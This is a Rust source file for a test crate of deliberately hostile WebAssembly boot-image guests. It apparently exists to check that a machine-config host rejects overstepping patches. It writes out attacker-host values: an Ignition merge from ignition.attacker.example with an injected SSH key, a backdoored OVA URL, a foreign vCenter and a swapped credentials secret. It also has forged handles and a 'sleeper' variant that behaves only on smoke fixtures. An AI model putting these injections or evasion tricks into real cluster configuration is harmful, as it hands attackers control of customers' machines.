//! Boot image guests that overstep on purpose. Each variant takes the
//! decision an honest guest would take — the stream's image for the
//! MachineSet's architecture and region — and changes it in one way the
//! host must refuse. The host's authority checks
//! (`host/jobs/bootimage/src/authority/`) are what stop them; this crate only
//! needs the real WIT and the stream model.
//!
//! One build serves every variant: the variant's name sits in [`VARIANT`],
//! and `guests/build.sh --test` writes each `hostile-<variant>.wasm` by
//! overwriting those bytes in the one built component (same length, so the
//! component stays valid): an LTO build per variant would be most of the
//! test guests' build time.

/// `mco-hostile-variant:` and the variant's name, padded with `_`.
#[cfg(target_arch = "wasm32")]
static VARIANT: [u8; 48] = *b"mco-hostile-variant:____________________________";

#[cfg(target_arch = "wasm32")]
mod hostile {
    use base64::Engine as _;
    use std::hint::black_box;
    use std::mem::ManuallyDrop;
    use std::sync::atomic::{AtomicU32, Ordering};

    use exports::mco::machine_config::boot_image as wit;
    use mco::machine_config::boot_image_inputs::{self as inputs, CoreosStream};
    use mco_bootimage::serde_json::{self, Map, Value, json};
    use mco_bootimage::{MachineSetView, ProviderSpec, arch};

    wit_bindgen::generate!({ world: "boot-image-selector", path: "../../wit" });

    /// The ways a variant oversteps (the names `guests/build.sh` writes).
    #[derive(Clone, Copy, PartialEq, Eq)]
    enum Variant {
        /// AWS: changes instanceType and credentialsSecret besides the AMI.
        InstanceType,
        /// AWS: as InstanceType, but honest on the host's smoke fixture, so
        /// that it passes the smoke evaluations and serves.
        Sleeper,
        /// AWS: points userDataSecret.name at another Secret.
        RepointUserData,
        /// AWS: "upgrades" aws-cloud-credentials, a Secret the MachineSet
        /// does not reference.
        ForeignSecret,
        /// AWS: an upgraded stub whose merge source is another host and
        /// that adds an SSH key.
        ForeignMerge,
        /// AWS: a stub upgrade although the host passed no user data.
        StubWithoutUserData,
        /// AWS: an AMI in neither the stream nor the known images.
        UnknownAmi,
        /// AWS: a merge patch that is valid JSON but not an object.
        NotAnObject,
        /// GCP: also changes a data disk's image.
        GcpDataDisk,
        /// GCP: reverses the order of the disks.
        GcpReorder,
        /// Azure: changes vmSize outside the image block.
        AzureOutsideImage,
        /// vSphere: the honest import, from another URL.
        VsphereImportUrl,
        /// vSphere: the honest import, into another folder.
        VsphereImportFolder,
        /// vSphere: the honest import, on another vCenter.
        VsphereImportVcenter,
        /// vSphere: an import under the name of the customer's VM (the
        /// MachineSet names one outside the workspace folder).
        VsphereImportTemplate,
        /// vSphere: the honest import, of a template that already holds
        /// the release (a needless replacement).
        VsphereImportCurrent,
        /// vSphere: the honest import, with numCPUs patched too.
        VsphereOtherField,
        /// AWS, on a marketplace AMI: an AMI EC2 did not list for its
        /// product.
        Ec2Unlisted,
        /// AWS, on a marketplace AMI: the product's newest AMI EC2 listed,
        /// above the stream's release.
        Ec2AboveRelease,
    }

    impl Variant {
        /// The variant this module was written as.
        fn current() -> Result<Variant, String> {
            // Read through a volatile load: the bytes are replaced after the
            // build, so the optimizer must not fold them into constants.
            let bytes: [u8; 48] = unsafe { core::ptr::read_volatile(&super::VARIANT) };
            let text = std::str::from_utf8(&bytes).map_err(|e| e.to_string())?;
            let name = text
                .strip_prefix("mco-hostile-variant:")
                .ok_or("no variant marker")?
                .trim_end_matches('_');
            Ok(match name {
                "instance-type" => Variant::InstanceType,
                "sleeper" => Variant::Sleeper,
                "repoint-user-data" => Variant::RepointUserData,
                "foreign-secret" => Variant::ForeignSecret,
                "foreign-merge" => Variant::ForeignMerge,
                "stub-without-user-data" => Variant::StubWithoutUserData,
                "unknown-ami" => Variant::UnknownAmi,
                "not-an-object" => Variant::NotAnObject,
                "gcp-data-disk" => Variant::GcpDataDisk,
                "gcp-reorder" => Variant::GcpReorder,
                "azure-outside-image" => Variant::AzureOutsideImage,
                "vsphere-import-url" => Variant::VsphereImportUrl,
                "vsphere-import-folder" => Variant::VsphereImportFolder,
                "vsphere-import-vcenter" => Variant::VsphereImportVcenter,
                "vsphere-import-template" => Variant::VsphereImportTemplate,
                "vsphere-import-current" => Variant::VsphereImportCurrent,
                "vsphere-other-field" => Variant::VsphereOtherField,
                "ec2-unlisted" => Variant::Ec2Unlisted,
                "ec2-above-release" => Variant::Ec2AboveRelease,
                other => return Err(format!("unknown variant {other:?}")),
            })
        }
    }

    struct Hostile;

    /// The providerSpec fields any variant reads.
    const FIELDS: [&str; 7] = [
        "disks",
        "placement",
        "ami",
        "image",
        "workspace",
        "template",
        "userDataSecret",
    ];

    /// The index of the stream handle a `keep-handle` MachineSet was lent.
    static KEPT: AtomicU32 = AtomicU32::new(u32::MAX);

    /// A handle to the stream at `index`, whether or not this call was
    /// lent it; never dropped, since the guest does not own it.
    fn stream_at(index: u32) -> ManuallyDrop<CoreosStream> {
        // SAFETY: wasm has no memory safety stake in a handle index: the
        // host checks every index against the instance's handle table.
        ManuallyDrop::new(unsafe { CoreosStream::from_handle(index) })
    }

    /// Handle misuse, by MachineSet name, whatever the variant: a handle
    /// kept for a later call, an index the host never lent, and more
    /// lookups than the host answers in one call.
    fn misuse(stream: &CoreosStream, name: &str) -> Option<wit::Decision> {
        Some(match name {
            "keep-handle" => {
                KEPT.store(stream.handle(), Ordering::Relaxed);
                wit::Decision::Skip("kept the stream handle".into())
            }
            "use-kept-handle" => {
                let kept = stream_at(KEPT.load(Ordering::Relaxed));
                wit::Decision::Skip(format!("through the kept handle: {}", kept.name()))
            }
            "forge-handle" => {
                let forged = stream_at(stream.handle() + 1000);
                wit::Decision::Skip(format!("through a forged handle: {}", forged.name()))
            }
            "lookup-flood" => {
                for _ in 0..1_000_000 {
                    black_box(stream.has_architecture("x86_64"));
                }
                wit::Decision::Skip("looked the stream up a million times".into())
            }
            _ => return None,
        })
    }

    /// The providerSpec fields the variants read, from the host.
    fn spec_of(spec: Option<&inputs::ProviderSpec>) -> Result<Value, String> {
        let mut object = Map::new();
        for (spec, key) in spec.iter().flat_map(|spec| FIELDS.map(|key| (spec, key))) {
            if let Some(text) = spec.field(key) {
                let field = serde_json::from_str(&text).map_err(|e| e.to_string())?;
                object.insert(key.to_owned(), field);
            }
        }
        Ok(Value::Object(object))
    }

    const UPGRADED_TO: &str = "machineconfiguration.openshift.io/stub-ignition-upgraded-to";

    impl wit::Guest for Hostile {
        fn decide(
            stream: &CoreosStream,
            provider_spec: Option<&inputs::ProviderSpec>,
            ms: wit::MachineSet,
            cluster: wit::Cluster,
            user_data: Option<String>,
            vcenter: Option<wit::VcenterFacts>,
            ec2: Option<wit::Ec2Facts>,
        ) -> wit::Decision {
            if let Some(decision) = misuse(stream, &ms.name) {
                return decision;
            }
            let decided = match (vcenter, ec2) {
                (Some(vcenter), _) => spec_of(provider_spec)
                    .and_then(|spec| vsphere::decide(stream, &spec, ms, cluster, vcenter)),
                (None, Some(ec2)) if Variant::current().is_ok_and(Variant::reads_ec2) => {
                    marketplace(ec2)
                }
                (None, _) => spec_of(provider_spec)
                    .and_then(|spec| decide(stream, &spec, ms, cluster, user_data)),
            };
            match decided {
                Ok(decision) => decision,
                Err(message) => wit::Decision::Error(format!("hostile guest: {message}")),
            }
        }
    }

    /// Why the host's stream cannot be used, as an error.
    fn usable(stream: &CoreosStream) -> Result<(), String> {
        stream.unusable().map_or(Ok(()), Err)
    }

    impl Variant {
        fn reads_ec2(self) -> bool {
            matches!(self, Variant::Ec2Unlisted | Variant::Ec2AboveRelease)
        }
    }

    /// The EC2 variants: a marketplace AMI the host's answer does not
    /// vouch for.
    fn marketplace(ec2: wit::Ec2Facts) -> Result<wit::Decision, String> {
        let target = match Variant::current()? {
            Variant::Ec2AboveRelease => ec2
                .marketplace
                .iter()
                .filter_map(|image| {
                    let (_, token) = mco_bootimage::ec2::description_release(&image.description)?;
                    Some((token, &image.image_id))
                })
                .max()
                .map(|(_, id)| id.clone())
                .ok_or("EC2 listed no marketplace AMI")?,
            _ => "ami-0badc0ffee0000001".to_owned(),
        };
        let fragment = json!({"ami": {"id": target, "arn": null, "filters": null}});
        Ok(wit::Decision::Patch(wit::Patch {
            target,
            merge_patch:
                json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}})
                    .to_string(),
            user_data_secret: None,
            template_import: None,
        }))
    }

    fn decide(
        stream: &CoreosStream,
        spec: &Value,
        ms: wit::MachineSet,
        cluster: wit::Cluster,
        user_data: Option<String>,
    ) -> Result<wit::Decision, String> {
        let variant = Variant::current()?;
        usable(stream)?;
        let (view, arch) = view(&ms, spec, &cluster)?;
        let secret = view
            .user_data_secret_name()
            .ok()
            .flatten()
            .unwrap_or("worker-user-data")
            .to_owned();
        let (target, mut fragment) = honest(variant, stream, &arch, spec)?;
        let mut upgrade = None;
        // `sleeper` behaves on the host's smoke fixture (`smoke-*`) and
        // oversteps everywhere else: smoke evaluations cannot catch it,
        // only the checks on every decision can.
        if !(variant == Variant::Sleeper && ms.name.starts_with("smoke-")) {
            upgrade = tamper(variant, &mut fragment, &secret, user_data.as_deref());
        }
        let patch = match variant {
            Variant::NotAnObject => json!([{"op": "replace",
                "path": "/spec/template/spec/providerSpec/value/ami/id", "value": target}]),
            _ => json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}}),
        };
        Ok(wit::Decision::Patch(wit::Patch {
            target,
            merge_patch: patch.to_string(),
            user_data_secret: upgrade,
            template_import: None,
        }))
    }

    /// The MachineSet as the library reads it, and its stream architecture.
    fn view(
        ms: &wit::MachineSet,
        spec: &Value,
        cluster: &wit::Cluster,
    ) -> Result<(MachineSetView, String), String> {
        let view = MachineSetView {
            kind: Default::default(),
            name: ms.name.clone(),
            namespace: ms.namespace.clone(),
            labels: ms.labels.iter().cloned().collect(),
            annotations: ms.annotations.iter().cloned().collect(),
            owner_references: ms.owner_references.clone(),
            template_labels: ms.template_labels.iter().cloned().collect(),
            provider_spec: Some(ProviderSpec::new(spec.clone())),
        };
        let arch = arch::machineset_arch(&view, &cluster.control_plane_arch, cluster.multi_arch)
            .map_err(|e| e.to_string())?;
        Ok((view, arch))
    }

    /// The patch an honest guest of the platform this build pretends to be
    /// would propose.
    fn honest(
        variant: Variant,
        stream: &CoreosStream,
        arch: &str,
        spec: &Value,
    ) -> Result<(String, Value), String> {
        if matches!(variant, Variant::GcpDataDisk | Variant::GcpReorder) {
            let target = stream.gcp_image(arch).map_err(|e| format!("{e:?}"))?;
            let mut disks = spec.get("disks").cloned().unwrap_or(json!([]));
            for disk in disks.as_array_mut().into_iter().flatten() {
                if disk.get("boot").and_then(Value::as_bool) == Some(true) {
                    disk["image"] = json!(target);
                }
            }
            return Ok((target, json!({"disks": disks})));
        }
        if variant == Variant::AzureOutsideImage {
            let image = match stream.azure_marketplace(arch, "no-purchase-plan") {
                inputs::AzureMarketplace::Images(set) => set.hyper_v_gen2,
                _ => None,
            }
            .ok_or("no Azure image")?;
            let target = format!(
                "{}:{}:{}:{}",
                image.publisher, image.offer, image.sku, image.version
            );
            return Ok((
                target,
                json!({"image": {"publisher": image.publisher, "offer": image.offer, "sku": image.sku,
                    "version": image.version, "resourceID": "", "type": "MarketplaceNoPlan"}}),
            ));
        }
        let region = spec
            .pointer("/placement/region")
            .and_then(Value::as_str)
            .unwrap_or("");
        let target = stream
            .aws_region_image(arch, region)
            .map_err(|e| format!("{e:?}"))?
            .image;
        Ok((
            target.clone(),
            json!({"ami": {"id": target, "arn": null, "filters": null}}),
        ))
    }

    fn stub(config: Value) -> String {
        base64::engine::general_purpose::STANDARD.encode(config.to_string())
    }

    fn upgrade_for(name: &str, config: Value) -> Option<wit::UserDataUpgrade> {
        Some(wit::UserDataUpgrade {
            name: name.to_owned(),
            user_data: stub(config),
            annotations: vec![(UPGRADED_TO.to_owned(), "3.5.0".to_owned())],
        })
    }

    /// Changes the honest `fragment` the way `variant` oversteps; the user
    /// data upgrade it proposes, if any.
    fn tamper(
        variant: Variant,
        fragment: &mut Value,
        secret: &str,
        user_data: Option<&str>,
    ) -> Option<wit::UserDataUpgrade> {
        // The honest conversion of the stub the host passed, if any.
        let honest = user_data.and_then(|text| match mco_bootimage::ignition::upgrade_stub(text) {
            Ok(mco_bootimage::ignition::StubUpgrade::Converted(v3)) => {
                serde_json::from_str::<Value>(&v3).ok()
            }
            _ => None,
        });
        match variant {
            Variant::InstanceType | Variant::Sleeper => {
                fragment["instanceType"] = json!("m5.metal");
                fragment["credentialsSecret"] = json!({"name": "attacker-credentials"});
            }
            Variant::RepointUserData => {
                fragment["userDataSecret"] = json!({"name": "master-user-data"});
            }
            // These two wait for the host's second round, which carries the
            // stub, as an honest guest does.
            Variant::ForeignSecret if user_data.is_some() => {
                return upgrade_for(
                    "aws-cloud-credentials",
                    honest.unwrap_or(json!({"ignition": {"version": "3.5.0"}})),
                );
            }
            Variant::ForeignMerge if user_data.is_some() => {
                return upgrade_for(
                    secret,
                    json!({
                        "ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://ignition.attacker.example/worker"}]}},
                        "passwd": {"users": [{"name": "core", "sshAuthorizedKeys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKey attacker"]}]}
                    }),
                );
            }
            Variant::StubWithoutUserData => {
                return upgrade_for(
                    secret,
                    json!({"ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://api-int.example:22623/config/worker"}]}}}),
                );
            }
            Variant::UnknownAmi => {
                fragment["ami"]["id"] = json!("ami-0badc0ffee0000000");
            }
            Variant::GcpDataDisk => {
                for disk in fragment["disks"].as_array_mut().into_iter().flatten() {
                    if disk.get("boot").and_then(Value::as_bool) != Some(true) {
                        disk["image"] = json!("projects/attacker/global/images/backdoored-data");
                    }
                }
            }
            Variant::GcpReorder => {
                if let Some(disks) = fragment["disks"].as_array_mut() {
                    disks.reverse();
                }
            }
            Variant::AzureOutsideImage => {
                fragment["vmSize"] = json!("Standard_D96s_v5");
            }
            Variant::ForeignSecret | Variant::ForeignMerge | Variant::NotAnObject => {}
            // Decided in `vsphere`, with the host's vCenter facts.
            Variant::VsphereImportUrl
            | Variant::VsphereImportFolder
            | Variant::VsphereImportVcenter
            | Variant::VsphereImportTemplate
            | Variant::VsphereImportCurrent
            | Variant::VsphereOtherField => {}
            // Decided in `marketplace`, with the host's EC2 facts.
            Variant::Ec2Unlisted | Variant::Ec2AboveRelease => {}
        }
        None
    }

    /// The vSphere variants: the import an honest guest would ask for (the
    /// MachineSet's template when vCenter holds it in the workspace folder,
    /// else the cluster's; the stream's OVA; the template's disk type),
    /// tampered with.
    mod vsphere {
        use mco_bootimage::serde_json::{Value, json};

        use super::{CoreosStream, Variant, wit};

        pub(super) fn decide(
            stream: &CoreosStream,
            spec: &Value,
            ms: wit::MachineSet,
            cluster: wit::Cluster,
            vcenter: wit::VcenterFacts,
        ) -> Result<wit::Decision, String> {
            let variant = Variant::current()?;
            super::usable(stream)?;
            let (_, arch) = super::view(&ms, spec, &cluster)?;
            let ova = stream.vmware_ova(&arch).map_err(|e| format!("{e:?}"))?;
            let release = stream.vmware_release(&arch).map_err(|e| format!("{e:?}"))?;
            let field = |key: &str| {
                spec["workspace"][key]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned()
            };
            let folder = field("folder");
            let named = spec["template"].as_str().unwrap_or_default().to_owned();
            let managed = format!(
                "{}-rhcos-{}",
                vcenter.infrastructure_name, vcenter.failure_domain
            );
            let in_folder = |name: &str| {
                vcenter
                    .vms
                    .iter()
                    .find(|vm| vm.name == name && vm.folder.trim_end_matches('/') == folder)
            };
            // The customer's VM's name (outside the folder) is what the
            // `vsphere-import-template` variant goes for.
            let own = variant == Variant::VsphereImportTemplate || in_folder(&named).is_some();
            let template = if own { named.clone() } else { managed };
            let disk_type = match in_folder(&template) {
                Some(vm) => vm.disk_type.clone(),
                None if own => None,
                None => vcenter.install_disk_type.clone(),
            };
            let mut fragment = json!({});
            if template != named {
                fragment["template"] = json!(template);
            }
            let mut import = wit::TemplateImport {
                server: field("server"),
                datacenter: field("datacenter"),
                folder,
                template: template.clone(),
                release,
                url: ova.location.clone(),
                sha256: ova.sha256.clone(),
                disk_type,
            };
            match variant {
                Variant::VsphereImportUrl => {
                    import.url = "https://ova.attacker.example/rhcos-backdoored.ova".into();
                }
                Variant::VsphereImportFolder => import.folder = "/dc1/vm/elsewhere".into(),
                Variant::VsphereImportVcenter => import.server = "vcenter.attacker.example".into(),
                Variant::VsphereOtherField => fragment["numCPUs"] = json!(64),
                _ => {}
            }
            let patch = match fragment.as_object().is_some_and(|f| f.is_empty()) {
                true => json!({}),
                false => {
                    json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}})
                }
            };
            Ok(wit::Decision::Patch(wit::Patch {
                target: template,
                merge_patch: patch.to_string(),
                user_data_secret: None,
                template_import: Some(import),
            }))
        }
    }

    export!(Hostile);
}
